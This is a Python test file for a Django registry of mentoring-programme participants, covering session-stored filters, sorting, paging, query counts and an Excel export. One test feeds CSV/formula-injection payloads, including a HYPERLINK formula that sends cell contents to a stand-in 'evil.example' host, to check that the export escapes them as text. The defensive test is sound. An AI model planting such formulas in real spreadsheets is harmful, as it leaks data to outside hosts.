"""The registry of participants (персонифицированный учёт): filters kept in the session,
sorting, pages, a constant number of queries, and the export to Excel."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.audit.models import AuditEntry
from apps.participants.models import (
    Category,
    Consent,
    Participant,
    PartnerOrganization,
    ProgrammeRole,
    Status,
)
from apps.participants.views import PER_PAGE
from apps.roadmap.models import Roadmap
from tests.factories import ConsentFactory, ParticipantFactory

SEEDED = "АльфовНаставляемый"  # the participant every tenant of tests/conftest.py starts with


def _url(tenant, name="participants:list"):
    return reverse(name, kwargs={"org_slug": tenant.organization.slug})


def _names(response):
    return [p.last_name for p in response.context["page"]]


def _filter(client, tenant, **values):
    data = {"query": "", "category": "", "programme_role": "", "status": "", "consent": ""}
    data |= {"group_name": "", "sort": ""} | values
    return client.post(_url(tenant), data)


@pytest.fixture
def people(tenant_a):
    """A small base: pupils of two classes, a teacher, a graduate mentor, one who left."""
    organization = tenant_a.organization
    today = timezone.localdate()
    ivanov = ParticipantFactory(
        organization=organization,
        patronymic="Олегович",  # not Faker's: «Петрович» would match a search for «петров»
        last_name="Иванов",
        first_name="Пётр",
        group_name="7Б",
        birth_date=today - timedelta(days=365 * 12),
    )
    ConsentFactory(participant=ivanov)  # the representative's: enough under 14
    petrova = ParticipantFactory(
        organization=organization,
        last_name="Петрова",
        first_name="Мария",
        patronymic="Сергеевна",  # not a random «Ивановна», which «Мария Иванов» would find
        group_name="7Б",
        birth_date=today - timedelta(days=365 * 13),
    )
    sidorov = ParticipantFactory(
        organization=organization,
        patronymic="Олегович",
        last_name="Сидоров",
        first_name="Олег",
        group_name="10А",
        birth_date=today - timedelta(days=365 * 16),
        programme_role=ProgrammeRole.BOTH,
    )
    ConsentFactory(participant=sidorov)  # the own consent is missing at 16
    teacher = ParticipantFactory(
        organization=organization,
        patronymic="Олегович",
        last_name="Андреева",
        first_name="Ольга",
        category=Category.TEACHER,
        birth_date=None,
        group_name="",
        programme_role=ProgrammeRole.MENTOR,
    )
    ConsentFactory(
        participant=teacher,
        given_by=Consent.GivenBy.SUBJECT,
        representative_name="",
        representative_relation="",
    )
    graduate = ParticipantFactory(
        organization=organization,
        patronymic="Олегович",
        last_name="Яковлев",
        first_name="Илья",
        category=Category.GRADUATE,
        birth_date=date(2001, 4, 2),
        group_name="",
        programme_role=ProgrammeRole.MENTOR,
        status=Status.CANDIDATE,
    )
    left = ParticipantFactory(
        organization=organization,
        patronymic="Олегович",
        last_name="Ушедшая",
        first_name="Анна",
        status=Status.LEFT,
        left_on=today,
        group_name="9В",
    )
    return {
        "ivanov": ivanov,
        "petrova": petrova,
        "sidorov": sidorov,
        "teacher": teacher,
        "graduate": graduate,
        "left": left,
    }


# --- Filters -----------------------------------------------------------------------


def test_it_shows_everybody_of_the_organisation_and_nobody_else(client, tenant_a, tenant_b, people):
    client.force_login(tenant_a.curator)
    response = client.get(_url(tenant_a))
    assert response.status_code == 200
    assert set(_names(response)) == {SEEDED, "Иванов", "Петрова", "Сидоров", "Андреева", "Яковлев", "Ушедшая"}
    assert "БетовНаставляемый" not in response.content.decode()


def test_a_searched_surname_goes_to_the_session_not_the_url(client, tenant_a, people):
    client.force_login(tenant_a.curator)
    response = _filter(client, tenant_a, query="петров")
    assert response.status_code == 302
    assert response.url == _url(tenant_a)
    assert "етров" not in response.url and "%" not in response.url
    page = client.get(_url(tenant_a))
    assert _names(page) == ["Петрова"]
    assert page.context["filters"]["query"].value() == "петров"
    assert "Иванов" not in page.content.decode()
    session_filters = client.session[f"filters:participants:{tenant_a.organization.slug}"]
    assert session_filters["query"] == "петров"


def test_every_word_of_the_search_must_match(client, tenant_a, people):
    client.force_login(tenant_a.curator)
    _filter(client, tenant_a, query="Мария Петрова")
    assert _names(client.get(_url(tenant_a))) == ["Петрова"]
    _filter(client, tenant_a, query="Мария Иванов")
    assert _names(client.get(_url(tenant_a))) == []


def test_reset_clears_the_stored_filters(client, tenant_a, people):
    client.force_login(tenant_a.curator)
    _filter(client, tenant_a, query="Петрова")
    client.post(_url(tenant_a), {"reset": "1"})
    assert len(_names(client.get(_url(tenant_a)))) == 7


def test_the_filters_of_one_person_are_not_shown_to_another(client, tenant_a, people):
    client.force_login(tenant_a.curator)
    _filter(client, tenant_a, query="Петрова")
    client.logout()
    client.force_login(tenant_a.staff)
    assert len(_names(client.get(_url(tenant_a)))) == 7


@pytest.mark.parametrize(
    "values,expected",
    [
        ({"category": Category.TEACHER}, {"Андреева"}),
        ({"category": Category.GRADUATE}, {"Яковлев"}),
        ({"programme_role": ProgrammeRole.MENTOR}, {"Андреева", "Яковлев", "Сидоров"}),
        (
            {"programme_role": ProgrammeRole.MENTEE},
            {SEEDED, "Иванов", "Петрова", "Сидоров", "Ушедшая"},
        ),
        ({"status": Status.LEFT}, {"Ушедшая"}),
        ({"status": Status.CANDIDATE}, {"Яковлев"}),
        ({"consent": "ok"}, {SEEDED, "Иванов", "Андреева"}),
        ({"consent": "missing"}, {"Петрова", "Сидоров", "Яковлев", "Ушедшая"}),
        ({"group_name": "7б "}, {"Иванов", "Петрова"}),
        ({"group_name": "10А"}, {"Сидоров"}),
        ({"group_name": "7Б", "consent": "missing"}, {"Петрова"}),
        ({"programme_role": ProgrammeRole.MENTOR, "category": Category.STUDENT}, {"Сидоров"}),
    ],
    ids=[
        "category-teacher",
        "category-graduate",
        "mentors-include-both",
        "mentees-include-both",
        "status-left",
        "status-candidate",
        "consent-ok",
        "consent-missing",
        "class-case-and-spaces",
        "class",
        "class-and-consent",
        "role-and-category",
    ],
)
def test_filters(client, tenant_a, people, values, expected):
    client.force_login(tenant_a.staff)
    response = _filter(client, tenant_a, **values)
    assert response.status_code == 302 and response.url == _url(tenant_a)
    page = client.get(_url(tenant_a))
    assert set(_names(page)) == expected
    assert page.context["page"].paginator.count == len(expected)


def test_the_consent_badge_follows_the_law(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    rows = {p.last_name: p.consent_ok for p in client.get(_url(tenant_a)).context["page"]}
    assert rows["Иванов"] is True  # 12, the representative signed
    assert rows["Сидоров"] is False  # 16, their own consent is missing
    assert rows["Андреева"] is True  # a teacher with her own consent


def test_an_invalid_filter_shows_everybody(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, category="astronaut")
    assert len(_names(client.get(_url(tenant_a)))) == 7


# --- Sorting and pages -------------------------------------------------------------


def test_it_sorts_by_name_by_default_and_backwards_on_request(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    everybody = [SEEDED, "Андреева", "Иванов", "Петрова", "Сидоров", "Ушедшая", "Яковлев"]
    assert _names(client.get(_url(tenant_a))) == everybody
    _filter(client, tenant_a, sort="-name")
    assert _names(client.get(_url(tenant_a))) == everybody[::-1]


def test_it_sorts_by_class(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, sort="group", category=Category.STUDENT)
    assert _names(client.get(_url(tenant_a))) == [
        "Сидоров",  # 10А
        SEEDED,  # 6А
        "Иванов",  # 7Б
        "Петрова",  # 7Б
        "Ушедшая",  # 9В
    ]


def test_it_sorts_by_birth_date_both_ways(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, sort="birth_date", group_name="7Б")
    assert _names(client.get(_url(tenant_a))) == ["Петрова", "Иванов"]
    _filter(client, tenant_a, sort="-birth_date", group_name="7Б")
    assert _names(client.get(_url(tenant_a))) == ["Иванов", "Петрова"]


def test_youngest_first_puts_unknown_birth_dates_last(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, sort="-birth_date")
    names = _names(client.get(_url(tenant_a)))
    assert names[-1] == "Андреева"  # the teacher has no birth date
    _filter(client, tenant_a, sort="birth_date")
    names = _names(client.get(_url(tenant_a)))
    assert names[0] == "Яковлев" and names[-1] == "Андреева"


def test_it_sorts_by_status_and_by_newest(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, sort="status")
    statuses = [p.status for p in client.get(_url(tenant_a)).context["page"]]
    assert statuses == sorted(statuses)
    _filter(client, tenant_a, sort="-created")
    assert _names(client.get(_url(tenant_a)))[0] == "Ушедшая"


def test_it_shows_the_registry_in_pages(client, tenant_a):
    for number in range(PER_PAGE + 10):
        ParticipantFactory(organization=tenant_a.organization, last_name=f"Ученик{number:03d}")
    client.force_login(tenant_a.staff)
    first = client.get(_url(tenant_a))
    assert first.context["page"].paginator.count == PER_PAGE + 11
    assert len(first.context["page"]) == PER_PAGE
    second = client.get(_url(tenant_a), {"page": 2})
    assert len(second.context["page"]) == 11
    assert set(_names(first)).isdisjoint(_names(second))
    assert "page=2" in first.content.decode()
    # A page number out of range shows the last page rather than an error.
    assert _names(client.get(_url(tenant_a), {"page": 99})) == _names(second)


def test_pages_keep_the_filters(client, tenant_a):
    for number in range(PER_PAGE + 5):
        ParticipantFactory(
            organization=tenant_a.organization, last_name=f"Ученик{number:03d}", group_name="5А"
        )
    ParticipantFactory(organization=tenant_a.organization, last_name="Другой", group_name="8Г")
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, group_name="5А")
    second = client.get(_url(tenant_a), {"page": 2})
    assert second.context["page"].paginator.count == PER_PAGE + 5
    assert {p.group_name for p in second.context["page"]} == {"5А"}


def test_anonymised_participants_do_not_appear(client, tenant_a, people):
    ParticipantFactory(organization=tenant_a.organization, last_name="#999", anonymised_at=timezone.now())
    client.force_login(tenant_a.staff)
    response = client.get(_url(tenant_a))
    assert "#999" not in _names(response)
    assert response.context["page"].paginator.count == 7
    _filter(client, tenant_a, query="#999")
    assert _names(client.get(_url(tenant_a))) == []


# --- Queries -----------------------------------------------------------------------

# Measured: session, user, membership, the view's savepoint of ATOMIC_REQUESTS (2), the
# count, workplaces (memberships and committee memberships), the unread notifications, the
# page of the registry with its consent state and partners, and the session save in a
# savepoint (3): 13, for 10 participants or 300.
REGISTRY_QUERIES = 13
# The export: session, user, membership, the view's savepoint (2), all the rows in one
# query, the audit entry and the session save (3): 10.
EXPORT_QUERIES = 10


def _pupils_with_consent(organization, partner, count):
    """`count` pupils of the partner, each with a consent, in two INSERTs (one by one they took
    two seconds for 300). Consent's one post_save receiver only looks for an open activity of the
    organisation's roadmap, which it has none of: saved one by one, nothing more would happen."""
    assert not Roadmap.objects.filter(organization=organization).exists()
    people = Participant.objects.bulk_create(
        ParticipantFactory.build(organization=organization, last_name=f"Ученик{number:03d}", partner=partner)
        for number in range(count)
    )
    Consent.objects.bulk_create(ConsentFactory.build(participant=person) for person in people)


@pytest.mark.parametrize("count", [10, 300])
def test_the_registry_keeps_a_constant_number_of_queries(
    client, tenant_a, django_assert_max_num_queries, count
):
    partner = PartnerOrganization.objects.create(organization=tenant_a.organization, name="ООО «Завод»")
    _pupils_with_consent(tenant_a.organization, partner, count)
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, consent="ok")
    with django_assert_max_num_queries(REGISTRY_QUERIES):
        response = client.get(_url(tenant_a))
    assert response.status_code == 200
    assert response.context["page"].paginator.count == count + 1
    assert "ООО «Завод»" in response.content.decode()


@pytest.mark.parametrize("count", [10, 300])
def test_the_export_keeps_a_constant_number_of_queries(
    client, tenant_a, django_assert_max_num_queries, count
):
    partner = PartnerOrganization.objects.create(organization=tenant_a.organization, name="ООО «Завод»")
    _pupils_with_consent(tenant_a.organization, partner, count)
    client.force_login(tenant_a.staff)
    with django_assert_max_num_queries(EXPORT_QUERIES):
        response = client.get(_url(tenant_a, "participants:export"))
    assert len(_sheet_rows(response)) == count + 2  # the header and the seeded participant


# --- Export ------------------------------------------------------------------------


def _sheet_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_the_export_is_an_xlsx_of_the_registry(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    response = client.get(_url(tenant_a, "participants:export"))
    assert response["Content-Disposition"].startswith('attachment; filename="registry-alpha-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = _sheet_rows(response)
    assert len(rows[0]) == 12
    body = {row[0]: row for row in rows[1:]}
    assert set(body) == {SEEDED, "Иванов", "Петрова", "Сидоров", "Андреева", "Яковлев", "Ушедшая"}
    graduate = body["Яковлев"]
    assert graduate[1] == "Илья"
    assert graduate[3].date() == date(2001, 4, 2)  # a real date cell, not text
    # The registry's own order: by name.
    assert [row[0] for row in rows[1:]] == [
        SEEDED,
        "Андреева",
        "Иванов",
        "Петрова",
        "Сидоров",
        "Ушедшая",
        "Яковлев",
    ]


def test_the_export_respects_the_current_filters(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, group_name="7Б", sort="-name")
    rows = _sheet_rows(client.get(_url(tenant_a, "participants:export")))
    assert [row[0] for row in rows[1:]] == ["Петрова", "Иванов"]
    _filter(client, tenant_a, consent="missing", category=Category.STUDENT)
    rows = _sheet_rows(client.get(_url(tenant_a, "participants:export")))
    assert {row[0] for row in rows[1:]} == {"Петрова", "Сидоров", "Ушедшая"}


def test_the_export_leaves_no_anonymised_participant(client, tenant_a, people):
    ParticipantFactory(organization=tenant_a.organization, last_name="#999", anonymised_at=timezone.now())
    client.force_login(tenant_a.staff)
    rows = _sheet_rows(client.get(_url(tenant_a, "participants:export")))
    assert "#999" not in {row[0] for row in rows}


@pytest.mark.parametrize(
    "surname",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Нажми")', "+7 cmd", "-2+3", "@SUM(A1:A2)", "\t=1+1"],
)
def test_the_export_writes_formulas_as_text(client, tenant_a, surname):
    ParticipantFactory(
        organization=tenant_a.organization,
        last_name=surname,
        first_name="=1+1",
        email="a@example.org",
        phone="+7 900 000-00-00",
    )
    client.force_login(tenant_a.staff)
    response = client.get(_url(tenant_a, "participants:export"))
    workbook = load_workbook(BytesIO(response.content))
    row = next(r for r in workbook.active.iter_rows(min_row=2) if r[1].value == "'=1+1")
    assert row[0].value == "'" + surname
    assert row[0].data_type == "s" and row[1].data_type == "s"
    assert row[10].value == "'+7 900 000-00-00"
    assert not any(cell.data_type == "f" for r in workbook.active.iter_rows() for cell in r)


def test_the_export_is_recorded_without_personal_data(client, tenant_a, people):
    client.force_login(tenant_a.staff)
    _filter(client, tenant_a, query="Петрова")
    client.get(_url(tenant_a, "participants:export"))
    entry = AuditEntry.objects.get(organization=tenant_a.organization, action="participants.exported")
    assert entry.actor == tenant_a.staff
    assert entry.data == {"rows": 1}
    assert "Петрова" not in str(entry.data)


def test_the_export_is_for_registry_keepers_only(client, tenant_a, people):
    for user in (tenant_a.director, tenant_a.mentor):
        client.force_login(user)
        assert client.get(_url(tenant_a, "participants:export")).status_code == 403
    assert not AuditEntry.objects.filter(action="participants.exported").exists()


def test_participants_of_another_organisation_never_reach_the_export(client, tenant_a, tenant_b):
    client.force_login(tenant_a.staff)
    rows = _sheet_rows(client.get(_url(tenant_a, "participants:export")))
    assert [row[0] for row in rows[1:]] == [SEEDED]
    assert Participant.objects.filter(organization=tenant_b.organization).exists()


def test_the_search_treats_yo_and_ye_as_one_letter(client, tenant_a):
    from tests.factories import ParticipantFactory

    ParticipantFactory(organization=tenant_a.organization, last_name="Журавлёва", first_name="Алёна")
    client.force_login(tenant_a.staff)
    url = reverse("participants:list", kwargs={"org_slug": tenant_a.organization.slug})
    for query in ("журавлева", "ЖУРАВЛЁВА алена"):
        client.post(url, {"query": query})
        assert [p.last_name for p in client.get(url).context["page"]] == ["Журавлёва"], query
